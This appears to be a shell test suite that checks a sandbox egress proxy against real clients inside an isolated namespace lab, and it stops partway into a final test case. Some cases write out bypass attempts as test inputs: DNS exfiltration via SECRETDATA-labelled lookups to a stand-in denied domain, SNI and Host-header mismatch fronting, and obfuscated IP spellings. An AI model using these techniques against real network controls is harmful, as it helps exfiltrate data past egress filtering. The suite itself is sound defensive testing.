#!/bin/sh
# run.sh — TAP tests of airlock's egress proxy (`sandbox.network: proxy`) on real clients, in a
# network lab made of namespaces (netlab.sh): `airlock run` starts in the lab's OUTER namespace,
# whose only neighbour is the lab's INTERNET namespace (DNS, HTTP, HTTPS, a git repository, a TCP
# echo server on documentation addresses).  No packet leaves the machine: every command that sends
# traffic runs through guard.sh, which refuses to run outside the lab's namespace.
#
# Usage: tests/proxy/run.sh BUILD_DIR        (BUILD_DIR holds airlock and airlock-preload.so)
#
# Every case runs as root and again as nobody (setpriv; airlock then takes the user-namespace
# path).  The whole suite skips (TAP "1..0 # SKIP", and "skipped: REASON" on stderr) when it is
# not run as root, when network namespaces or veth pairs cannot be made, or when bubblewrap is
# missing.  It bails out (exit 1) when a probe run finds no proxy listening on 127.0.0.1:3128
# inside the sandbox: the proxy is broken.
#
# The policy (lab.yaml) allows test.example:80, *.test.example:443 and 203.0.113.12:7000, denies
# denied.test.example, and leaves everything else to the default (connect: deny; headless runs
# deny asks).  Server-side logs (what reached "the internet") back every denial: a denied case
# passes only when no lab server saw the request.
#
# Environment: ONLY_CASES="curl static ..." runs those case_* functions only; KEEP_TMP=1 keeps the scratch tree (with the lab's logs); CASE_TIMEOUT (s) bounds
# one airlock run (default 40); ONLY_USER=NAME runs the cases for that user only;
# SKIP_PROBE=1 runs the cases even when the probe finds no proxy (to see how they fail).
# Exits 1 when any case fails.
set -u

# shellcheck source=tests/lib/suite.sh
. "$(dirname "$0")/../lib/suite.sh"
suite_build_dir airlock "$@" # BUILD, ROOT
PHERE=$(cd "$(dirname "$0")" && pwd -P)
export LC_ALL=C
unset XDG_CONFIG_HOME XDG_STATE_HOME XDG_RUNTIME_DIR

skip_all()
{
	echo "1..0 # SKIP skipped: $1"
	echo "skipped: $1" >&2
	exit 0
}

[ "$(id -u)" = 0 ] || skip_all "not root: the lab needs ip netns add (run as root)"
command -v ip >/dev/null 2>&1 || skip_all "no iproute2 (ip)"
command -v bwrap >/dev/null 2>&1 || skip_all "bubblewrap (bwrap) is not installed"

# The TAP, check and audit-log helpers are tests/run's (HERE names that directory while sourcing).
HERE=$ROOT/tests/run
# shellcheck source=tests/run/lib.sh
. "$HERE/lib.sh"
LAB_HERE=$PHERE
# shellcheck source=tests/proxy/netlab.sh
. "$PHERE/netlab.sh"

lib_setup
lab_init "$T/lab"
trap 'lab_down; lib_cleanup' EXIT

if ! lab_up; then
	case "$LAB_ERR" in
	*"ip netns add"* | *veth* | *"Operation not supported"*)
		skip_all "no network namespace / veth support: $LAB_ERR" ;;
	esac
	echo "Bail out! the lab did not come up: $LAB_ERR"
	exit 1
fi
echo "# lab: OUTER $LAB_OUT ($LAB_VO 203.0.113.1), INTERNET $LAB_INET ($LAB_VI 203.0.113.10-12); logs in $LAB_DIR"

# ---- helpers the sandbox runs ----------------------------------------------------------------

CC=${CC:-gcc}
STATIC_SKIP=""
if ! "$CC" -O1 -static -o "$T/bin/client" "$PHERE/client.c" 2>"$T/cc.err"; then
	STATIC_SKIP="gcc -static failed: $(head -c 200 "$T/cc.err")"
fi
cp "$PHERE/pxclient.py" "$T/bin/pxclient.py"
chmod 755 "$T/bin" "$T/bin/"*
CLIENT=$T/bin/client
PXC="$PY $T/bin/pxclient.py"
CA=$LAB_CA

ME=$(id -un)
USERS=$ME
nobody_setup # AIRLOCK, NOBODY_SKIP (tests/lib/nobody.sh, through tests/run/lib.sh)
if [ -n "$NOBODY_SKIP" ]; then
	echo "# $NOBODY_SKIP: the cases run as $ME only"
else
	USERS="$ME nobody"
fi
[ -n "${ONLY_USER:-}" ] && USERS=$ONLY_USER
for u in $USERS; do
	user_setup "$u"
done
# the probe runs as $ME
case " $USERS " in *" $ME "*) ;; *) user_setup "$ME" ;; esac

# prun AIRLOCK-RUN-ARGS...: `airlock run --log $LOG ARGS...` as $RUN_USER in $W, started inside
# the lab's OUTER namespace through guard.sh.  Sets RC, OUT, ERR, LOG, ELAPSED_MS.
prun()
{
	CASE_N=$((CASE_N + 1))
	LOG=$L/case.$CASE_N.jsonl
	t0=$(date +%s%N)
	(
		cd "$W" || exit 125
		# shellcheck disable=SC2086 # AS and CALLER_ENV are word lists
		exec ip netns exec "$LAB_OUT" "$PHERE/guard.sh" "$LAB_OUT" "$LAB_VO" -- \
			$AS env -i PATH="$AGENT_PATH" HOME="$H" USER="$RUN_USER" LANG=C.UTF-8 ${CALLER_ENV:-} \
			timeout -k 3 "$CASE_TIMEOUT" "$AIRLOCK" run --log "$LOG" "$@"
	) >"$T/out" 2>"$T/err" </dev/null
	RC=$?
	ELAPSED_MS=$((($(date +%s%N) - t0) / 1000000))
	OUT=$(cat "$T/out")
	ERR=$(cat "$T/err")
	if [ "$RC" = 99 ] && grep -q '^guard: refusing' "$T/err"; then
		echo "Bail out! $(grep '^guard:' "$T/err")"
		exit 1
	fi
}

# mark: remembers the size of each lab server log, so later checks look at new lines only.
mark()
{
	for f in dns http https conn echo; do
		eval "MARK_$f=\$(wc -c <\"\$LAB_DIR/$f.log\")"
	done
}

# since NAME.log: the lines $LAB_DIR/NAME.log got since the last mark.
since()
{
	m=0
	eval "m=\$MARK_${1%.log}"
	tail -c +"$((m + 1))" "$LAB_DIR/${1%.log}.log"
}

# expect_reached LOGNAME TEXT / expect_not_reached LOGNAME TEXT: a lab server saw (did not see)
# TEXT since the mark.
expect_reached()
{
	since "$1" | grep -qF -- "$2" || _fail "the lab's $1 has no \"$2\" since the case began"
}
expect_not_reached()
{
	l=$(since "$1" | grep -iF -- "$2" | head -n 3)
	[ -z "$l" ] || _fail "a lab server saw what should have been refused ($1): $l"
}
# expect_fast MS: the whole airlock run took at most MS milliseconds.
expect_fast()
{
	[ "$ELAPSED_MS" -le "$1" ] || _fail "took $ELAPSED_MS ms (bound $1 ms): not refused at once"
}
# expect_proxy_event DST DECISION [COND...]: a proxy event for destination DST with DECISION.
expect_proxy_event()
{
	d=$1
	dec=$2
	shift 2
	"$PY" "$LOGQ" "$LOG" find --wait 2 source=proxy network_dst="$d" decision="$dec" "$@" >/dev/null ||
		_fail "no proxy log line with network_dst=$d decision=$dec $*"
}

# ---- policies -----------------------------------------------------------------------------------

lab_policy()
{
	write_policy lab.yaml <<'EOF'
version: 1
# every program and file is allowed: the network rules are what the proxy tests exercise
default: {exec: allow, read: allow, write: allow, connect: deny}
deny:
  - network: { destination: "denied.test.example" }
    reason: the lab's denied name
allow:
  - network: { destination: "test.example:80" }
    reason: the lab's web server
  - network: { destination: "*.test.example:443" }
    reason: the lab's HTTPS names
  - network: { destination: "203.0.113.12:7000" }
    reason: the lab's echo server
sandbox: {network: proxy}
EOF
}

# Every spelling of 203.0.113.12 must meet its deny rule, while *:80 allows the rest.
iplit_policy()
{
	write_policy iplit.yaml <<'EOF'
version: 1
default: {exec: allow, read: allow, write: allow, connect: deny}
deny:
  - network: { destination: "203.0.113.12" }
    reason: the denied address, however it is spelled
allow:
  - network: { destination: "*:80" }
    reason: any host on port 80
sandbox: {network: proxy}
EOF
}

budget_policy()
{
	write_policy budget.yaml <<'EOF'
version: 1
default: {exec: allow, read: allow, write: allow, connect: deny}
allow:
  - network: { destination: "test.example:80" }
    reason: the lab's web server
limits: {max_egress_bytes: 10000}
sandbox: {network: proxy}
EOF
}

# ---- the probe: is there a proxy? ---------------------------------------------------------------

use_user "$ME"
prun --headless --default-allow -- "$PY" -c '
import os, socket
print("env", " ".join("%s=%s" % (k, os.environ[k]) for k in sorted(os.environ) if "proxy" in k.lower()))
try:
    socket.create_connection(("127.0.0.1", 3128), timeout=3).close()
    print("proxy-listening")
except OSError as e:
    print("no-proxy", e)
'
echo "# probe: rc $RC; $(printf '%s' "$OUT" | tr '\n' ' ' | cut -c 1-300)"
if ! printf '%s' "$OUT" | grep -q proxy-listening && [ -z "${SKIP_PROBE:-}" ]; then
	echo "Bail out! the egress proxy does not listen on 127.0.0.1:3128 inside the sandbox (probe: rc $RC, $(printf '%s %s' "$OUT" "$ERR" | tr '\n' ' ' | cut -c 1-200))"
	exit 1
fi

# ---- the cases --------------------------------------------------------------------------------------

CURL="curl -sS --max-time 10"

case_curl()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- $CURL -x http://127.0.0.1:3128 http://test.example/curl-proxy
	check "$p: curl through the HTTP proxy to http://test.example/ is allowed and reaches the server"
	expect_rc 0
	expect_out_has "HTTP-ECHO host=test.example path=/curl-proxy"
	expect_reached http.log "80 test.example /curl-proxy GET"
	expect_reached dns.log " test.example "
	expect_proxy_event test.example:80 allow
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c 'echo "HTTP_PROXY=$HTTP_PROXY http_proxy=${http_proxy:-}"; '"$CURL"' http://test.example/curl-env'
	check "$p: curl with the environment airlock sets (HTTP_PROXY) reaches http://test.example/"
	expect_rc 0
	expect_out_has "HTTP-ECHO host=test.example path=/curl-env"
	expect_out_re "HTTP_PROXY=http://127\.0\.0\.1:3128"
	expect_proxy_event test.example:80 allow
	done_check

	mark
	prun --headless --policy "$pol" -- $CURL -f -x http://127.0.0.1:3128 http://denied.test.example/curl-denied
	check "$p: curl through the HTTP proxy to http://denied.test.example/ is refused at once, logged deny"
	expect_rc_not 0
	expect_out_lacks HTTP-ECHO
	expect_fast 5000
	expect_not_reached http.log /curl-denied
	expect_not_reached dns.log denied.test.example
	expect_proxy_event denied.test.example:80 deny rule~lab.yaml:
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c "$CURL --socks5-hostname 127.0.0.1:1080 http://test.example/curl-socks; $CURL --socks5-hostname 127.0.0.1:1080 http://denied.test.example/curl-socks-denied; echo curl=\$?"
	check "$p: curl through SOCKS5 (ALL_PROXY's socks5h): test.example:80 reached, denied.test.example refused, both logged"
	expect_out_has "HTTP-ECHO host=test.example path=/curl-socks"
	expect_out_re "^curl=[1-9]"
	expect_reached http.log /curl-socks
	expect_not_reached http.log /curl-socks-denied
	expect_proxy_event test.example:80 allow
	expect_proxy_event denied.test.example:80 deny
	done_check

	mark
	nxpol=$(printf 'version: 1\ndefault: {exec: allow, read: allow, write: allow, connect: deny}\nallow:\n  - network: { destination: "nowhere.invalid:443" }\nsandbox: {network: proxy}\n' |
		write_policy nx.yaml)
	prun --headless --policy "$nxpol" -- $CURL -sS -x http://127.0.0.1:3128 https://nowhere.invalid/curl-nx
	check "$p: an allowed name that does not resolve: the client fails, the log has an allow that failed (not a deny)"
	expect_rc_not 0
	expect_proxy_event nowhere.invalid:443 allow message~"does not resolve"
	expect_no_log source=proxy network_dst=nowhere.invalid:443 decision=deny
	done_check

	mark
	prun --headless --policy "$pol" -- $CURL -f -x http://127.0.0.1:3128 http://other.test.example/curl-default
	check "$p: curl through the HTTP proxy to a name no rule names is refused (headless default), logged"
	expect_rc_not 0
	expect_out_lacks HTTP-ECHO
	expect_fast 5000
	expect_not_reached http.log /curl-default
	expect_proxy_event other.test.example:80 deny
	done_check
}

case_curl_connect()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- $CURL --cacert "$CA" https://api.test.example/curl-connect
	check "$p: curl through HTTPS_PROXY (CONNECT) to https://api.test.example/ verifies the lab CA and reaches it"
	expect_rc 0
	expect_out_has "HTTPS-ECHO sni=api.test.example host=api.test.example path=/curl-connect"
	expect_reached https.log "/curl-connect"
	expect_proxy_event api.test.example:443 allow
	done_check

	mark
	prun --headless --policy "$pol" -- $CURL --cacert "$CA" https://denied.test.example/curl-connect-denied
	check "$p: curl through HTTPS_PROXY (CONNECT) to https://denied.test.example/ is refused at once, logged"
	expect_rc_not 0
	expect_out_lacks HTTPS-ECHO
	expect_fast 5000
	expect_not_reached https.log /curl-connect-denied
	expect_not_reached conn.log "443 "
	expect_proxy_event denied.test.example:443 deny rule~lab.yaml:
	done_check
}

case_urllib()
{
	p=$RUN_USER
	pol=$(lab_policy)
	script='
import sys, urllib.request, urllib.error
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode().strip())
except urllib.error.HTTPError as e:
    print("HTTPError", e.code); sys.exit(3)
except Exception as e:
    print("error", e); sys.exit(3)
'
	mark
	prun --headless --policy "$pol" -- "$PY" -c "$script" http://test.example/py-urllib
	check "$p: python3 urllib (honours the proxy variables) reaches http://test.example/"
	expect_rc 0
	expect_out_has "HTTP-ECHO host=test.example path=/py-urllib"
	expect_reached http.log /py-urllib
	expect_proxy_event test.example:80 allow
	done_check

	mark
	prun --headless --policy "$pol" -- "$PY" -c "$script" http://denied.test.example/py-urllib-denied
	check "$p: python3 urllib to http://denied.test.example/ is refused at once, logged"
	expect_rc 3
	expect_out_lacks HTTP-ECHO
	expect_fast 5000
	expect_not_reached http.log /py-urllib-denied
	expect_proxy_event denied.test.example:80 deny
	done_check
}

case_node()
{
	p=$RUN_USER
	if ! command -v node >/dev/null 2>&1; then
		tap_skip "$p: node http.get (transparent path)" "node is not installed"
		return
	fi
	pol=$(lab_policy)
	script='
const http = require("http");
http.get(process.argv[1], r => {
  let b = ""; r.on("data", d => b += d);
  r.on("end", () => { console.log(r.statusCode, b.trim()); });
}).on("error", e => { console.log("error", e.code || e.message); process.exit(3); })
  .setTimeout(10000, function () { console.log("error timeout"); this.destroy(); process.exit(3); });
'
	mark
	prun --headless --policy "$pol" -- node -e "$script" http://test.example/node
	check "$p: node http.get (ignores HTTP_PROXY: transparent path, fake DNS) reaches http://test.example/"
	expect_rc 0
	expect_out_has "HTTP-ECHO host=test.example path=/node"
	expect_reached http.log /node
	expect_proxy_event test.example:80 allow
	done_check

	mark
	prun --headless --policy "$pol" -- node -e "$script" http://denied.test.example/node-denied
	check "$p: node http.get to http://denied.test.example/ (transparent) is refused at once, logged under its name"
	expect_rc 3
	expect_out_lacks HTTP-ECHO
	expect_fast 5000
	expect_not_reached http.log /node-denied
	expect_not_reached dns.log denied.test.example
	# the shim (once it maps fake addresses back) or the proxy may be the one refusing
	expect_log network_dst=denied.test.example:80 decision=deny
	done_check
}

case_git()
{
	p=$RUN_USER
	pol=$(lab_policy)
	rm -rf "$W/clone-ok" "$W/clone-denied"
	mark
	prun --headless --policy "$pol" -- sh -c "GIT_SSL_CAINFO=$CA git clone -q https://api.test.example/repo.git clone-ok && cat clone-ok/README"
	check "$p: git clone https://api.test.example/repo.git (dumb HTTP over CONNECT) works"
	expect_rc 0
	expect_out_has "served by the lab"
	expect_reached https.log "/repo.git/HEAD"
	expect_proxy_event api.test.example:443 allow
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c "GIT_SSL_CAINFO=$CA git clone -q https://denied.test.example/repo.git clone-denied"
	check "$p: git clone https://denied.test.example/repo.git fails at once, logged"
	expect_rc_not 0
	expect_fast 8000
	expect_no_file "$W/clone-denied/README"
	expect_not_reached https.log /repo.git
	expect_proxy_event denied.test.example:443 deny
	done_check
}

case_static()
{
	p=$RUN_USER
	if [ -n "$STATIC_SKIP" ]; then
		tap_skip "$p: static client" "$STATIC_SKIP"
		return
	fi
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- "$CLIENT" tcp 203.0.113.12 7000
	check "$p: a static binary connecting to 203.0.113.12:7000 (allowed IP) gets its echo"
	expect_rc 0
	expect_out_has "reply: ping from the static client"
	expect_reached echo.log "203.0.113.12 "
	expect_proxy_event 203.0.113.12:7000 allow rule~lab.yaml:
	done_check

	mark
	prun --headless --policy "$pol" -- "$CLIENT" tcp 203.0.113.11 7000
	check "$p: a static binary connecting to 203.0.113.11:7000 (no rule) gets nothing, at once, logged"
	expect_rc_not 0
	expect_out_lacks "reply: ping"
	expect_fast 5000
	expect_not_reached conn.log "7000 203.0.113.11"
	expect_proxy_event 203.0.113.11:7000 deny
	done_check

	mark
	prun --headless --policy "$pol" -- "$CLIENT" tcp 203.0.113.12 7001
	check "$p: a static binary connecting to a port no rule names (7001) is refused by the kernel (no listener)"
	expect_rc 2
	expect_out_has "connect: Connection refused"
	expect_fast 5000
	expect_not_reached conn.log "7001"
	done_check

	mark
	prun --headless --policy "$pol" -- "$CLIENT" raw test.example 80
	check "$p: a static binary resolving test.example with a raw DNS query (fake address) reaches it on port 80"
	expect_rc 0
	expect_out_re "^resolved: 198\.1[89]\."
	expect_out_has "HTTP-ECHO host=test.example path=/static"
	expect_proxy_event test.example:80 allow
	done_check

	mark
	prun --headless --policy "$pol" -- "$CLIENT" raw denied.test.example 80
	check "$p: a static binary resolving denied.test.example (raw DNS) and connecting gets nothing, logged"
	expect_rc_not 0
	expect_out_re "^resolved: 198\.1[89]\."
	expect_out_lacks HTTP-ECHO
	expect_fast 5000
	expect_not_reached http.log "denied.test.example"
	expect_not_reached dns.log denied.test.example
	expect_proxy_event denied.test.example:80 deny
	done_check

	# static glibc's getaddrinfo: its resolver is built in (files, dns), so it uses the sandbox's
	# resolv.conf like any other program; if this machine's static glibc cannot resolve, the
	# raw-query cases above carry the point.
	mark
	prun --headless --policy "$pol" -- "$CLIENT" gai test.example 80
	check "$p: a static binary resolving test.example with getaddrinfo (static glibc) reaches it"
	if printf '%s' "$OUT" | grep -q '^resolve: '; then
		tap_skip "$p: static getaddrinfo" "static glibc could not resolve: $(printf '%s' "$OUT" | grep '^resolve:')"
	else
		expect_rc 0
		expect_out_re "^resolved: 198\.1[89]\."
		expect_out_has "HTTP-ECHO host=test.example"
		done_check
	fi
}

case_dns_exfil()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- sh -c "
		$PY -c 'import socket; print(socket.getaddrinfo(\"SECRETDATA123.test-denied.example\", 80))'
		getent hosts secretdata124.test-denied.example
		getent ahostsv6 SECRETDATA125.test-denied.example
		$PY -c 'import socket; socket.getaddrinfo(\"secretdata126.test.example\", 80)'
		$PY -c 'import socket; s = socket.create_connection((\"SECRETDATA127.test-denied.example\", 80), timeout=5)' 2>&1 | tail -n 1
		$CURL -x http://127.0.0.1:3128 http://SECRETDATA128.test-denied.example/ ; echo
		$CURL --socks5-hostname 127.0.0.1:1080 http://SECRETDATA129.test-denied.example/ ; echo
		${STATIC_SKIP:+: }$CLIENT raw SECRETDATA130.test-denied.example 80
		true"
	check "$p: DNS exfiltration: lookups and connections to SECRETDATA*.test-denied.example never reach the lab's DNS"
	expect_out_re "198\.1[89]\."
	expect_out_lacks HTTP-ECHO
	expect_not_reached dns.log secretdata
	expect_not_reached http.log secretdata
	done_check
}

case_mismatch()
{
	p=$RUN_USER
	pol=$(lab_policy)
	# Transparent TLS with the shim bypassed (connect by raw syscall): the proxy alone must see
	# that the SNI names a denied host while the address is the fake one of an allowed name.
	# The control, the same connection with the matching SNI, must work.
	mark
	prun --headless --policy "$pol" -- sh -c "
		a=\$($PXC resolve api.test.example); echo fake-api=\$a
		$PXC --raw tls \$a 443 api.test.example $CA /sni-match-raw
		$PXC --raw tls \$a 443 denied.test.example $CA /sni-front-raw"
	check "$p: transparent TLS (shim bypassed) to api.test.example's address: SNI api.test.example passes, SNI denied.test.example is refused by the proxy, logged"
	expect_out_re "^fake-api=198\.1[89]\."
	expect_out_re "^RESULT tls .* sni=api.test.example reached: HTTPS-ECHO sni=api.test.example"
	expect_out_re "^RESULT tls .* sni=denied.test.example refused"
	expect_reached https.log /sni-match-raw
	expect_not_reached https.log /sni-front-raw
	expect_not_reached https.log "443 denied.test.example"
	expect_log source=proxy decision=deny network_dst~test.example:443
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c "
		a=\$($PXC resolve denied.test.example); echo fake-denied=\$a
		$PXC --raw tls \$a 443 api.test.example $CA /sni-rev-raw"
	check "$p: transparent TLS (shim bypassed) to denied.test.example's address with SNI api.test.example is refused by the proxy, logged"
	expect_out_re "^RESULT tls .* refused"
	expect_not_reached https.log /sni-rev-raw
	expect_not_reached conn.log "443 "
	expect_log source=proxy decision=deny network_dst~test.example:443
	done_check

	# the same attack by curl, with the shim in place: refused by one layer or the other
	mark
	prun --headless --policy "$pol" -- sh -c "
		a=\$($PXC resolve api.test.example); echo fake-api=\$a
		$CURL --noproxy '*' --cacert $CA --resolve denied.test.example:443:\$a https://denied.test.example/sni-front"
	check "$p: curl --resolve denied.test.example:443:<api.test.example's address> (SNI mismatch) is refused at once, logged"
	expect_rc_not 0
	expect_out_lacks HTTPS-ECHO
	expect_fast 8000
	expect_not_reached https.log /sni-front
	expect_not_reached conn.log "443 "
	expect_log decision=deny network_dst~:443
	done_check

	# CONNECT api.test.example:443, then a ClientHello naming denied.test.example
	mark
	prun --headless --policy "$pol" -- sh -c "printf 'GET /sni-connect HTTP/1.0\r\nHost: api.test.example\r\n\r\n' |
		timeout 10 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect api.test.example:443 \
			-servername denied.test.example -CAfile $CA 2>&1"
	check "$p: CONNECT api.test.example:443 then a ClientHello with SNI denied.test.example is refused, logged"
	expect_out_lacks HTTPS-ECHO
	expect_not_reached https.log /sni-connect
	expect_log source=proxy decision=deny network_dst~test.example:443
	done_check

	# plain HTTP on a transparent connection (shim bypassed): test.example's address,
	# Host: denied.test.example; the control with Host: test.example passes
	mark
	prun --headless --policy "$pol" -- sh -c "
		a=\$($PXC resolve test.example)
		$PXC --raw direct \$a 80 test.example
		$PXC --raw direct \$a 80 denied.test.example"
	check "$p: transparent HTTP (shim bypassed) to test.example's address: Host test.example passes, Host denied.test.example is refused, logged"
	expect_out_re "^RESULT direct .* reached: HTTP-ECHO host=test.example "
	expect_out_re "^RESULT direct .* refused"
	expect_not_reached http.log denied.test.example
	expect_log source=proxy decision=deny network_dst~test.example:80
	done_check

	mark
	prun --headless --policy "$pol" -- $PXC abs http://test.example/host-mismatch denied.test.example
	check "$p: an absolute-URI request for http://test.example/ with Host: denied.test.example is refused, logged"
	expect_out_re "^RESULT abs .* refused"
	expect_not_reached http.log /host-mismatch
	expect_log source=proxy decision=deny
	done_check
}

# expect_loopback_hosts: every entry of the /etc/hosts the sandbox printed (the static client's
# "entry: ADDR NAME..." lines) is a loopback address, and lab-host.internal is not listed.
expect_loopback_hosts()
{
	n=$(printf '%s\n' "$OUT" | grep -c '^entry: ')
	[ "$n" -ge 1 ] || _fail "the static client printed no /etc/hosts entry"
	l=$(printf '%s\n' "$OUT" | grep '^entry: ' | grep -vE '^entry: (127\.[0-9.]+|::1) ' | head -n 2)
	[ -z "$l" ] || _fail "/etc/hosts inside lists a non-loopback entry: $l"
	expect_out_re "^entry: 127\.0\.0\.1 .*localhost"
	expect_out_has "listed: none"
}

# The host's /etc/hosts (the lab's OUTER has lab-host.internal and hosts.test.example on
# 203.0.113.12) stays outside: inside, names resolve through airlock's DNS (fake addresses) only,
# for dynamic and static programs alike.  network: none gets the loopback-only file too;
# network: host keeps the host's.
case_hosts()
{
	p=$RUN_USER
	pol=$(lab_policy)
	if [ -n "$STATIC_SKIP" ]; then
		tap_skip "$p: /etc/hosts inside (static client)" "$STATIC_SKIP"
		return
	fi
	mark
	prun --headless --policy "$pol" -- sh -c "
		echo getent=\$(getent hosts lab-host.internal)
		echo getent-test=\$(getent hosts hosts.test.example)
		$PY -c 'import socket
for n in (\"lab-host.internal\", \"hosts.test.example\"):
    try:
        print(\"py\", n, socket.gethostbyname(n))
    except OSError as e:
        print(\"py\", n, \"error\", e)'
		$CLIENT hosts lab-host.internal
		$CLIENT gai lab-host.internal 7000 | grep '^resolv'
		true"
	check "$p: inside airlock run, names in the host's /etc/hosts do not resolve to the host's addresses (getent, python3, static getaddrinfo); /etc/hosts lists loopback names only (a static program reads it)"
	expect_rc 0
	expect_out_lacks 203.0.113.12
	expect_out_re "^getent=((::ffff:)?198\.1[89]\.[0-9.]+ +lab-host.internal)?\$"
	expect_out_re "^getent-test=(::ffff:)?198\.1[89]\.[0-9.]+ +hosts.test.example\$"
	expect_out_re "^py lab-host.internal (198\.1[89]\.|error)"
	expect_out_re "^py hosts.test.example 198\.1[89]\."
	expect_loopback_hosts
	expect_not_reached echo.log 203.0.113.12
	done_check

	nonepol=$(printf 'version: 1\ndefault: {exec: allow, read: allow, write: allow, connect: deny}\nsandbox: {network: none}\n' |
		write_policy none.yaml)
	prun --headless --policy "$nonepol" -- "$CLIENT" hosts lab-host.internal
	check "$p: network: none: /etc/hosts inside lists loopback names only too"
	expect_loopback_hosts
	done_check

	hostpol=$(printf 'version: 1\ndefault: {exec: allow, read: allow, write: allow, connect: deny}\nsandbox: {network: host}\n' |
		write_policy host.yaml)
	prun --headless --policy "$hostpol" -- "$CLIENT" hosts lab-host.internal
	check "$p: network: host: the host's /etc/hosts stays (the sandbox shares the host's network)"
	expect_out_has "listed: 203.0.113.12"
	done_check
}

# A transparent connection (the program ignores the proxy variables, or bypasses the shim) to a
# lab server's real address, naming a host in its TLS server name or Host header: the name's rule
# decides, and the proxy's own resolution of the name (the lab's DNS; OUTER's /etc/hosts first)
# must give that address.  (--raw and the static client: the shim, where it is, decides a real
# address by the address before any name is sent, as connect(2) gives it nothing else.)
case_real_addr()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- sh -c "
		$PXC --raw tls 203.0.113.10 443 www.test.example $CA /real-sni-raw
		$PXC --raw tls 203.0.113.12 443 hosts.test.example $CA /real-sni-hosts"
	check "$p: transparent TLS to 203.0.113.10 with SNI www.test.example (resolves there) is allowed by the name's rule and reached; SNI hosts.test.example to 203.0.113.12 (OUTER's /etc/hosts) too; logged with name and address"
	expect_out_re "^RESULT tls 203.0.113.10:443 sni=www.test.example reached: HTTPS-ECHO sni=www.test.example .*path=/real-sni-raw"
	expect_out_re "^RESULT tls 203.0.113.12:443 sni=hosts.test.example reached: HTTPS-ECHO .*path=/real-sni-hosts"
	expect_reached https.log /real-sni-raw
	expect_reached https.log /real-sni-hosts
	expect_log source=proxy network_dst=www.test.example:443 network_addr=203.0.113.10 decision=allow rule~lab.yaml: via=transparent
	expect_log source=proxy network_dst=hosts.test.example:443 network_addr=203.0.113.12 decision=allow
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c "
		$PXC --raw tls 203.0.113.10 443 api.test.example $CA /real-sni-elsewhere
		$PXC --raw tls 203.0.113.10 443 hosts.test.example $CA /real-sni-dns-only
		$PXC --raw tls 203.0.113.10 443 denied.test.example $CA /real-sni-denied"
	check "$p: transparent TLS to 203.0.113.10 with SNI api.test.example (resolves to .11), hosts.test.example (the proxy's files say .12) or denied.test.example (denied) is refused, logged with the reason"
	expect_out_re "^RESULT tls .* sni=api.test.example refused"
	expect_out_re "^RESULT tls .* sni=hosts.test.example refused"
	expect_out_re "^RESULT tls .* sni=denied.test.example refused"
	expect_out_lacks HTTPS-ECHO
	expect_not_reached conn.log "443 203.0.113.10"
	expect_log source=proxy network_dst=api.test.example:443 network_addr=203.0.113.10 decision=deny "message~does not resolve to 203.0.113.10" "message~203.0.113.11"
	expect_log source=proxy network_dst=hosts.test.example:443 network_addr=203.0.113.10 decision=deny "message~does not resolve to 203.0.113.10" "message~203.0.113.12"
	expect_log source=proxy network_dst=denied.test.example:443 network_addr=203.0.113.10 decision=deny rule~lab.yaml:
	done_check

	mark
	prun --headless --policy "$pol" -- sh -c "
		$PXC --raw direct 203.0.113.10 80 test.example
		$PXC --raw direct 203.0.113.11 80 test.example
		${STATIC_SKIP:+: }$CLIENT http 203.0.113.10 80 test.example
		${STATIC_SKIP:+: }$CLIENT http 203.0.113.12 80 test.example
		true"
	check "$p: transparent HTTP (raw syscall connect; a static binary) to 203.0.113.10 with Host test.example is reached; to .11 / .12 (test.example is not there) refused, logged"
	expect_out_re "^RESULT direct 203.0.113.10:80 reached: HTTP-ECHO host=test.example .*local=203.0.113.10"
	expect_out_re "^RESULT direct 203.0.113.11:80 refused"
	expect_not_reached conn.log "80 203.0.113.11"
	expect_not_reached conn.log "80 203.0.113.12"
	expect_log source=proxy network_dst=test.example:80 network_addr=203.0.113.10 decision=allow
	expect_log source=proxy network_dst=test.example:80 network_addr=203.0.113.11 decision=deny "message~does not resolve to 203.0.113.11"
	if [ -z "$STATIC_SKIP" ]; then
		expect_out_re "HTTP-ECHO host=test.example path=/static .*local=203\.0\.113\.10"
		expect_log source=proxy network_dst=test.example:80 network_addr=203.0.113.12 decision=deny "message~does not resolve to 203.0.113.12"
	fi
	done_check
}

# The spellings of 203.0.113.12 (denied) and, as the control, 203.0.113.10 (allowed by *:80).
SPELL_DENIED="3405803788 0313.0.0161.014 0xcb.0x0.0x71.0xc 0xcb00710c 203.0.28940 203.28940 203.0.113.12. ::ffff:203.0.113.12 ::ffff:cb00:710c"
case_ip_literals()
{
	p=$RUN_USER
	pol=$(iplit_policy)
	mark
	# shellcheck disable=SC2086
	prun --headless --policy "$pol" -- $PXC spellings 80 3405803786 $SPELL_DENIED
	for sp in 3405803786 $SPELL_DENIED; do
		if [ "$sp" = 3405803786 ]; then
			check "$p: control: 203.0.113.10 spelled 3405803786 (allowed by *:80) is reached by abs, CONNECT and SOCKS5"
			n=$(printf '%s\n' "$OUT" | grep -c "^RESULT .*$sp.* reached: HTTP-ECHO")
			[ "$n" = 3 ] || _fail "reached $n of 3 ways"
		else
			check "$p: 203.0.113.12 spelled $sp is denied through abs, CONNECT and SOCKS5"
			l=$(printf '%s\n' "$OUT" | grep -F -- "$sp" | grep -v ' refused' | head -n 3)
			[ -z "$l" ] || _fail "not refused: $l"
			n=$(printf '%s\n' "$OUT" | grep -F -- "$sp" | grep -c '^RESULT ')
			[ "$n" = 3 ] || _fail "$n of 3 requests reported"
		fi
		done_check
	done
	check "$p: no spelling of 203.0.113.12 reached it; each denial is logged"
	expect_not_reached conn.log "80 203.0.113.12 "
	expect_log_count "$(($(echo $SPELL_DENIED | wc -w) * 3))" source=proxy decision=deny
	done_check
}

case_denied_port()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
